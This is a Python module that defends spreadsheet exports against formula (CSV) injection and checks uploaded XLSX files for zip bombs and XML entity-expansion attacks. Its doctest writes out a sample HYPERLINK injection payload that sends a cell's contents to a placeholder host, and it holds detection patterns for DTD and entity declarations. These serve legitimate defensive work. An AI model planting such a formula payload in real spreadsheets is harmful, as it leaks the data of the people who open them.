"""Hostile-input helpers for spreadsheets: formula injection on export, zip bombs on import.

Formula injection (OWASP, "CSV Injection"): a cell whose text starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return may be run as a formula when a reviewer opens our CSV or XLSX in
Excel or LibreOffice (``=HYPERLINK(...)`` leaks data to a server; DDE can start programs).  Names,
places and free text come from hostile submitters, so every text cell we export goes through
:func:`safe_cell`, which prefixes such text with a single quote, as OWASP recommends.  We never
evaluate formulas on import either: readers must use cached values (openpyxl ``data_only=True``)
or treat ``=...`` as text.

Zip bombs: an XLSX file is a zip archive, and a few kilobytes can declare gigabytes (Fifield
2019, "A better zip bomb", WOOT '19, which also overlaps entries so that one compressed kernel is
counted many times).  :func:`check_xlsx_safe` inspects the central directory (sizes, ratios,
entry count, overlapping entries, compression methods) before openpyxl touches the file, then by
default streams every member once with a hard cap and rejects XML with a DOCTYPE or ENTITY
declaration (entity-expansion "billion laughs" attacks; no legitimate XLSX part has a DTD).
Python's :mod:`zipfile` stops reading each member at the size its central directory declares,
so the declared sizes checked here bound what openpyxl can decompress.
"""

from __future__ import annotations

import csv
import logging
import re
import struct
import zipfile
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import IO, Any, TypeVar

from uncounted.exceptions import IngestError

log = logging.getLogger(__name__)

T = TypeVar("T")

#: Characters that make a spreadsheet treat a cell as a formula (OWASP), plus their full-width
#: forms, which some spreadsheet and IME combinations map to the ASCII ones.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_LEADING_SPACE = " \u00a0\u3000"
# XML 1.0 forbids these; openpyxl raises on them, so they are replaced before writing XLSX.
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def safe_cell(value: T) -> T | str:
    """Neutralise spreadsheet formula injection in one cell value.

    Text whose first non-blank character is one of ``= + - @``, tab, CR, LF (or a full-width
    ``＝ ＋ － ＠``) is prefixed with a single quote, so spreadsheets show it as text.  Numbers,
    dates, booleans and None are returned unchanged (a negative *number* is not a formula).

    Examples
    --------
    >>> safe_cell('=HYPERLINK("http://x/?"&A1,"click")')
    '\\'=HYPERLINK("http://x/?"&A1,"click")'
    >>> safe_cell("Ivanov"), safe_cell(-3)
    ('Ivanov', -3)
    """
    if not isinstance(value, str) or not value:
        return value
    stripped = value.lstrip(_LEADING_SPACE)
    if stripped and stripped[0] in FORMULA_TRIGGERS:
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """:func:`safe_cell` applied to every value of a row."""
    return [safe_cell(v) for v in values]


def _csv_value(v: Any) -> Any:
    if v is None:
        return ""
    if hasattr(v, "isoformat"):
        return v.isoformat()
    return safe_cell(v)


def write_csv_safe(path: str | Path | IO[str], header: Sequence[str],
                   rows: Iterable[Sequence[Any]]) -> int:
    """Write a UTF-8 CSV with every cell neutralised; return the number of data rows.

    Header names are neutralised too (a hostile mapping could name a column ``=cmd``).
    """
    def _write(fh: IO[str]) -> int:
        # RFC 4180 line ends: with "\n" alone, a field holding "\r" would not be quoted.
        w = csv.writer(fh, lineterminator="\r\n")
        w.writerow(safe_row(header))
        n = 0
        for row in rows:
            w.writerow([_csv_value(v) for v in row])
            n += 1
        return n

    if isinstance(path, (str, Path)):
        with open(path, "w", encoding="utf-8", newline="") as fh:
            return _write(fh)
    return _write(path)


def write_xlsx_safe(path: str | Path, header: Sequence[str], rows: Iterable[Sequence[Any]],
                    *, sheet: str = "data") -> int:
    """Write an XLSX sheet with every text cell neutralised and stored as text; return rows.

    openpyxl stores any string beginning with ``=`` as a formula, so neutralising is required,
    not cosmetic.  Characters XML cannot hold are replaced with U+FFFD.
    """
    from openpyxl import Workbook

    def clean(v: Any) -> Any:
        v = safe_cell(v)
        return _XML_ILLEGAL.sub("\ufffd", v) if isinstance(v, str) else v

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title=sheet)
    ws.append([clean(h) for h in header])
    n = 0
    for row in rows:
        ws.append([clean(v) for v in row])
        n += 1
    wb.save(str(path))
    return n


# -- zip bombs -------------------------------------------------------------------------------

@dataclass(frozen=True)
class ZipCheck:
    """What :func:`check_xlsx_safe` measured on an archive that passed."""

    n_entries: int
    compressed_bytes: int
    uncompressed_bytes: int
    max_ratio: float


MiB = 1024 * 1024
_RATIO_FLOOR = 1 * MiB  # members smaller than this may have any ratio
_LOCAL_HEADER_MIN = 30
_XML_SUFFIXES = (".xml", ".rels", ".vml")
_DTD_PATTERNS = tuple(
    p.encode(enc) for p in ("<!DOCTYPE", "<!ENTITY") for enc in ("ascii", "utf-16-le", "utf-16-be")
)
_OVERLAP = max(len(p) for p in _DTD_PATTERNS)


def check_xlsx_safe(path: str | Path | IO[bytes], *, max_uncompressed: int = 256 * MiB,
                    max_ratio: float = 250.0, max_entries: int = 10_000,
                    scan_content: bool = True) -> ZipCheck:
    """Refuse an XLSX file that could exhaust memory or disk when opened.

    Parameters
    ----------
    path:
        The file (or a binary file object) as received.
    max_uncompressed:
        Upper bound on the sum of the members' declared (and, when scanning, actual) sizes.
    max_ratio:
        Upper bound on uncompressed / compressed size for any member larger than 1 MiB.
    max_entries:
        Upper bound on the number of members.
    scan_content:
        Also decompress every member once, under the same caps, checking that actual sizes match
        the declared ones and that no XML part declares a DTD or entities.

    Returns
    -------
    ZipCheck
        The measured figures.

    Raises
    ------
    IngestError
        With the reason; quarantine the whole file.
    """
    name = str(path) if isinstance(path, (str, Path)) else getattr(path, "name", "<stream>")

    def fail(msg: str) -> IngestError:
        return IngestError(msg + "; the file was not opened (quarantine it, or re-save it in a "
                           "spreadsheet and try again)", file=str(name))

    try:
        zf = zipfile.ZipFile(path)
    except (zipfile.BadZipFile, OSError, ValueError, EOFError, NotImplementedError,
            RuntimeError, struct.error) as exc:
        # NotImplementedError: e.g. "zip file version 21.8" (found by atheris).
        raise fail(f"not an XLSX (zip) file ({exc}); a password-protected workbook must be saved "
                   "without a password first") from exc
    with zf:
        infos = zf.infolist()
        if len(infos) > max_entries:
            raise fail(f"{len(infos)} members in the archive; at most {max_entries} allowed")
        if not any(i.filename == "[Content_Types].xml" for i in infos):
            raise fail("no [Content_Types].xml: this zip archive is not an Office document")
        total = 0
        comp_total = 0
        worst = 0.0
        for i in infos:
            if i.flag_bits & 0x1:
                raise fail(f"member {i.filename!r} is encrypted")
            if i.compress_type not in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
                raise fail(f"member {i.filename!r} uses compression method {i.compress_type}; "
                           "XLSX uses only stored or deflate")
            total += i.file_size
            comp_total += i.compress_size
            if total > max_uncompressed:
                raise fail(f"declared uncompressed size exceeds {max_uncompressed} bytes "
                           f"(zip bomb?)")
            ratio = i.file_size / max(i.compress_size, 1)
            worst = max(worst, ratio)
            if i.file_size > _RATIO_FLOOR and ratio > max_ratio:
                raise fail(f"member {i.filename!r} expands {ratio:.0f}-fold "
                           f"(at most {max_ratio:.0f} allowed): zip bomb?")
        _check_overlap(infos, getattr(zf, "start_dir", None), fail)
        if scan_content:
            _scan(zf, infos, max_uncompressed, fail)
    return ZipCheck(len(infos), comp_total, total, worst)


def _check_overlap(infos: list[zipfile.ZipInfo], start_dir: int | None, fail: Any) -> None:
    ordered = sorted(infos, key=lambda i: i.header_offset)
    for a, b in zip(ordered, ordered[1:], strict=False):
        if a.header_offset + _LOCAL_HEADER_MIN + a.compress_size > b.header_offset:
            raise fail(f"members {a.filename!r} and {b.filename!r} overlap in the archive "
                       "(an overlapping-entry zip bomb)")
    if ordered and start_dir is not None:
        last = ordered[-1]
        if last.header_offset + _LOCAL_HEADER_MIN + last.compress_size > start_dir:
            raise fail(f"member {last.filename!r} overlaps the central directory")


def _scan(zf: zipfile.ZipFile, infos: list[zipfile.ZipInfo], cap: int, fail: Any) -> None:
    seen = 0
    for i in infos:
        is_xml = i.filename.lower().endswith(_XML_SUFFIXES)
        tail = b""
        n = 0
        problem: str | None = None
        try:
            with zf.open(i) as fh:
                while problem is None:
                    chunk = fh.read(256 * 1024)
                    if not chunk:
                        break
                    n += len(chunk)
                    seen += len(chunk)
                    if seen > cap:
                        problem = f"more than {cap} bytes once decompressed (zip bomb?)"
                    elif is_xml:
                        window = tail + chunk
                        if any(p in window for p in _DTD_PATTERNS):
                            problem = (f"member {i.filename!r} declares a DTD or entities "
                                       "(XML entity-expansion attack?)")
                        tail = window[-_OVERLAP:]
        except (zipfile.BadZipFile, OSError, EOFError, ValueError, zlib.error,
                NotImplementedError, RuntimeError, struct.error) as exc:
            raise fail(f"member {i.filename!r} is corrupt: {exc}") from exc
        if problem is not None:
            raise fail(problem)
        if n != i.file_size:
            raise fail(f"member {i.filename!r} holds {n} bytes but declares {i.file_size}")
